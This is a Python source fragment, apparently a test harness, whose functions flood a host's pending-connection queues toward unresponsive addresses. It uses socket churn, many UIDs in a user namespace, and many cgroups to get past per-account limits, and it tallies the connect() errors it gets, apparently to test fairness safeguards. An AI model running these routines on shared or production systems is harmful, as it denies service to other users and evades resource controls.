"""Attacks on the turns of others: thousands who wait."""


def many_to_one(dead, count):
    """So many sockets to one address, each to a port of its own, so that none is a first contact but the first."""
    first = new_socket(dead[0])
    connect(first, dead[0], 9)
    time.sleep(0.3)
    kept = [new_socket(dead[0]) for _ in range(count)]
    for number, made in enumerate(kept):
        connect(made, dead[0], 1 + number)
    say({"waiting": count})
    while True:
        time.sleep(0.002)
        # The oldest goes, another comes.
        made = kept.pop(0)
        made.close()
        kept.append(new_socket(dead[0]))
        count += 1
        connect(kept[-1], dead[0], 1 + count % 60000)


def many_users(dead, users, each):
    """Users of a user namespace that root has given to this user, as newuidmap does."""
    ready, go = os.pipe(), os.pipe()
    process = os.fork()
    if process == 0:
        os.setgroups([])
        os.setgid(4001)
        os.setuid(4001)
        LIBC.prctl(4, 1)  # PR_SET_DUMPABLE: else its map belongs to root
        unshare(CLONE_NEWUSER)
        os.write(ready[1], b"x")
        os.read(go[0], 1)
        os.setresgid(0, 0, 0)
        os.setresuid(0, 0, 0)
        kept = []
        for user in range(1, users + 1):
            os.setresuid(user, 0, 0)
            for number in range(each):
                kept.append(new_socket(dead[0]))
                connect(kept[-1], dead[(user * each + number) % len(dead)], 1 + user)
        say({"waiting": len(kept)})
        time.sleep(3600)
    os.read(ready[0], 1)
    write(f"/proc/{process}/uid_map", f"0 4001 1\n1 200001 {users}")
    write(f"/proc/{process}/gid_map", "0 4001 1")
    os.write(go[1], b"x")
    os.waitpid(process, 0)


def many_cgroups(dead, cgroup, count, sockets):
    """Divided among so many cgroups of its own."""
    kept = []
    for number in range(count):
        os.mkdir(f"{cgroup}/{number}")
        write(f"{cgroup}/{number}/cgroup.procs", "0")
        for each in range(sockets // count):
            address = dead[(number * 7 + each) % len(dead)]
            kept.append(new_socket(address))
            connect(kept[-1], address, 1 + number * 50 + each)
    say({"waiting": len(kept)})
    time.sleep(3600)


def fill_queue(dead, cgroup, count, each):
    """Waiters in as many accounts; which errors connect() gave."""
    kept, failed = [], collections.Counter()
    for number in range(count):
        os.mkdir(f"{cgroup}/{number}")
        write(f"{cgroup}/{number}/cgroup.procs", "0")
        for other in range(each):
            error = keep(kept, new_socket(dead[0]), dead[(number + other) % len(dead)], 1000 + number)
            if error:
                failed[error] += 1
    say({"waiting": len(kept), "failed": failed})
    time.sleep(3600)


def connect_and_close(dead, seconds):
    dialled, start = 0, time.monotonic()
    while time.monotonic() < start + seconds:
        made = new_socket(dead[0])
        connect(made, dead[dialled % len(dead)], 8000 + dialled % 50000)
        made.close()
        dialled += 1
    return {"dialled": dialled}
